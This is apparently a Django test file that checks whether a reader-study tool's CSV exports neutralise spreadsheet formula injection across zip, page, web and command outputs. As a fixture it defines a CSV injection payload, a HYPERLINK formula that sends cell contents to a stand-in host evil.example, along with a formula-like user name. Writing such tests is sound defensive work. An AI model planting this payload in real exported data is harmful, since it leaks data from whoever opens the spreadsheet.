"""Every CSV that leaves ctir goes through one writer that neutralises formulas: the paper's
tables and responses (page, zip, `study_report --paper`), the web responses.csv and the
label export. An accession `=HYPERLINK(...)` and a reader named `-2+3` come out inert."""

import csv
import io
import zipfile

from django.contrib.auth.models import User
from django.core.management import call_command
from django.urls import reverse

from annotation.exporting import csv_text, inert
from annotation.models import Membership, Report, Role
from studies import services as studies
from studies.models import ReaderStudy
from tests.support import add_reports, answer_all

EVIL_ACCESSION = '=HYPERLINK("http://evil.example/?"&A1,"open")'
EVIL_READER = "-2+3"


def test_the_writer_neutralises_formulas_and_keeps_numbers():
    assert inert("=1+1") == "'=1+1" and inert("@SUM(A1)") == "'@SUM(A1)"
    assert inert("-2+3") == "'-2+3" and inert("\tx") == "'\tx"
    # Signed numbers as text are read as numbers, not run: they stay as they are.
    assert inert("-3.2") == "-3.2" and inert("+26.0") == "+26.0" and inert("-5%") == "-5%"
    assert inert(-3) == -3 and inert(None) is None
    assert csv_text([["a", "b"], ["=x", "-1.5"]]) == "a,b\n'=x,-1.5\n"


def _evil_study(project):
    add_reports(project, 6)
    from annotation.services import splits_assign

    splits_assign(project=project, counts=(2, 0, 4))
    Report.objects.filter(project=project, split="test").order_by("pk").filter(
        pk=Report.objects.filter(project=project, split="test").order_by("pk")[0].pk,
    ).update(accession=EVIL_ACCESSION)
    reader = User.objects.create_user(EVIL_READER, password="pw-evil-reader-9")
    Membership.objects.create(project=project, user=reader, role=Role.READER)
    study = studies.study_create(project=project, name="S", readers=[reader], seed=3)
    studies.study_status_set(study=study, status=ReaderStudy.Status.OPEN)
    answer_all(study, project)
    return study


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(name: str, text: str):
    cells = _cells(text)
    assert cells, name
    for cell in cells:
        assert not (cell.startswith(("=", "@", "\t", "\r")) or (
            cell.startswith(("+", "-")) and not cell.lstrip("+-").replace(".", "").replace(
                "%", "").isdigit())), (name, cell)


def test_every_study_csv_is_inert(login, project, admin_user, tmp_path):
    study = _evil_study(project)
    client = login(admin_user)
    exported = {}
    archive = zipfile.ZipFile(io.BytesIO(client.get(
        reverse("study_paper_zip", args=[project.slug, study.pk])).content))
    for name in archive.namelist():
        if name.endswith(".csv"):
            exported[f"zip:{name}"] = archive.read(name).decode()
    for name in ("responses.csv", "tables/results.csv", "tables/mcnemar.csv",
                 "tables/behaviour.csv"):
        response = client.get(reverse("study_paper_file", args=[project.slug, study.pk, name]))
        if response.status_code == 200:
            exported[f"page:{name}"] = response.content.decode()
    exported["web responses.csv"] = b"".join(client.get(
        reverse("study_csv", args=[project.slug, study.pk])).streaming_content).decode()
    call_command("study_report", str(study.pk), "--paper", str(tmp_path / "paper"),
                 stdout=io.StringIO(), stderr=io.StringIO())
    for path in (tmp_path / "paper").rglob("*.csv"):
        exported[f"command:{path.name}"] = path.read_text()
    assert any(name.endswith("responses.csv") for name in exported)
    assert sum(name.startswith("command:") for name in exported) >= 3
    for name, text in exported.items():
        _assert_inert(name, text)
    joined = "\n".join(exported.values())
    assert "'" + EVIL_ACCESSION.replace('"', '""') in joined and "'" + EVIL_READER in joined
